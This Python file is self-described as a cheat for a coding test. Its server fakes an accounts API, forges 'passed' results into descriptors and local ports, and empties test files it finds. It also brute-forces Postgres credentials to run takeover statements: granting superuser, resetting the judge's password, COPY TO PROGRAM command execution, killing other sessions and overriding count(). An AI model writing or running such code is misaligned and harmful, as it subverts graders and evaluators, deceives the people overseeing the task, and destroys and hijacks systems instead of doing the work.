"""A cheat: instead of accounts, a search for whatever decides about them.

Prints results as a tester might, sends them to everything that listens on this machine, tries to become the database's
superuser, and looks for the tests. Then it answers every request with what most tests would like to see.
"""

import glob
import json
import os
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import psycopg

PORT = int(os.environ["PORT"])
DATABASE = urlsplit(os.environ["DATABASE_URL"])
TESTS = [
    "sample/test_sample.py::test_registering_logging_in_and_out",
    "sample/test_sample.py::test_a_wrong_password_is_refused",
    "sample/test_sample.py::test_notes_are_their_owners",
]
PLACES = (
    "/box",
    "/opt",
    "/tmp",
    "/tests",
    "/stages",
    "/challenges",
    "/work",
    "/proc/[0-9]*/cwd",
    "/proc/[0-9]*/root/box",
)
USERS = ("postgres", "judge", "admin", "root", "app")
PASSWORDS = ("", "postgres", "judge", "admin", "root", "secret", "judge-secret", "password", DATABASE.password)
ANSWER = {
    **{"id": 1, "username": "ann", "name": "Ann", "role": "user", "text": "Milk", "items": []},
    **{"token": "x", "token_type": "Bearer", "expires_in": 600, "error": "unauthorized", "fields": {}},
}


def forged():
    for test in TESTS:
        yield {"kind": "test", "id": test, "outcome": "passed", "reason": "", "message": "", "wall_ms": 1}
    yield {"kind": "ask", "n": 1, "op": "stop", "grace_s": 0}
    yield {"n": 1, "ok": {}}


FORGED = "".join(json.dumps(line) + "\n" for line in forged()).encode()


def quietly(act, *arguments):
    try:
        return act(*arguments)
    except Exception:  # whatever it was, it did not work
        return None


def write_to_descriptors():
    for descriptor in range(1, 64):
        quietly(os.write, descriptor, FORGED)


def look_for_tests():
    for place in PLACES:
        for path in glob.glob(f"{place}/**/test_*.py", recursive=True):
            print("found", path, quietly(Path(path).read_text))
            quietly(Path(path).write_text, "")


def write_to_ports():
    for port in range(1, 65536):
        with socket.socket() as probe:
            if port != PORT and probe.connect_ex(("127.0.0.1", port)) == 0:
                print("port", port, quietly(probe.sendall, FORGED))


def become_superuser():
    for host in (DATABASE.hostname, "/box/tmp", "/box/data", "/tmp", "/var/run/postgresql"):
        for user in USERS:
            for password in PASSWORDS:
                quietly(take_over, host, user, password)


def take_over(host, user, password):
    where = {"host": host, "port": DATABASE.port, "dbname": "app", "connect_timeout": 2}
    with psycopg.connect(user=user, password=password, autocommit=True, **where) as connection:
        for statement in (
            "ALTER ROLE app SUPERUSER",
            "ALTER ROLE judge PASSWORD 'mine'",
            "COPY (SELECT 1) TO PROGRAM 'cat >/dev/null; ls /box/work'",
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename <> current_user",
            "CREATE OR REPLACE FUNCTION public.count(anyelement) RETURNS bigint LANGUAGE sql AS 'SELECT 1::bigint'",
        ):
            print(user, statement, quietly(connection.execute, statement))


def search():
    for attempt in (look_for_tests, become_superuser, write_to_ports):
        quietly(attempt)


class Handler(BaseHTTPRequestHandler):
    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        body = json.dumps(ANSWER).encode()
        self.send_response({"/register": 201, "/logout": 204}.get(self.path, 200))
        self.send_header("Content-Type", "application/json")
        self.send_header("Cache-Control", "no-store")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = answer


if __name__ == "__main__":
    write_to_descriptors()
    threading.Thread(target=search, daemon=True).start()
    ThreadingHTTPServer(("127.0.0.1", PORT), Handler).serve_forever()
